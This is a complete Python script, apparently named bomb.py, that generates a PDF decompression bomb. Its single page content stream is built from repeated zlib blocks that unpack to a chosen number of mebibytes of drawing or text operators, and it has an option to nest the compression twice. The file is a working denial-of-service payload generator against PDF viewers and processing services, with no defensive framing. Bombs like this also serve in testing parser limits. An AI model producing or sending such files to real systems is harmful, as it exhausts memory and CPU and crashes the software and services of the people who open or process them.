"""Writes a PDF file whose page unpacks to so many MiB of drawing: bomb.py MIB WHAT FILE

WHAT is `nothing` (drawing that draws nothing), `letters`, or `twice` (a bomb packed in a bomb).
"""

import sys
import zlib


def packed(chunk, count):
    """A chunk so many times, packed once: each is whole by itself."""
    work, total = zlib.compressobj(9), 1
    first, again = (work.compress(chunk) + work.flush(zlib.Z_FULL_FLUSH) for _ in range(2))
    for _ in range(count):
        total = zlib.adler32(chunk, total)
    return first + again * (count - 1) + b"\x03\x00" + total.to_bytes(4, "big")


def main():
    size, what, target = int(sys.argv[1]) << 20, sys.argv[2], sys.argv[3]
    chunk = (b"(aaaaaaaaaaaaaaaaaaaaaaaa) Tj\n" if what == "letters" else b"q Q\n") * (1 << 18)
    body = packed(chunk, size // len(chunk))
    filters = b"/FlateDecode"
    if what == "twice":
        body, filters = zlib.compress(body, 9), b"[/FlateDecode /FlateDecode]"
    if what == "letters":
        body = zlib.compress(b"BT /F1 12 Tf 72 700 Td\n" + zlib.decompress(body), 9)
    parts = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>",
        b"<</Length %d/Filter %s>>stream\n%s\nendstream" % (len(body), filters, body),
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    ]
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, part in enumerate(parts, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, part)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(parts) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(parts) + 1, start)
    open(target, "wb").write(out)


main()
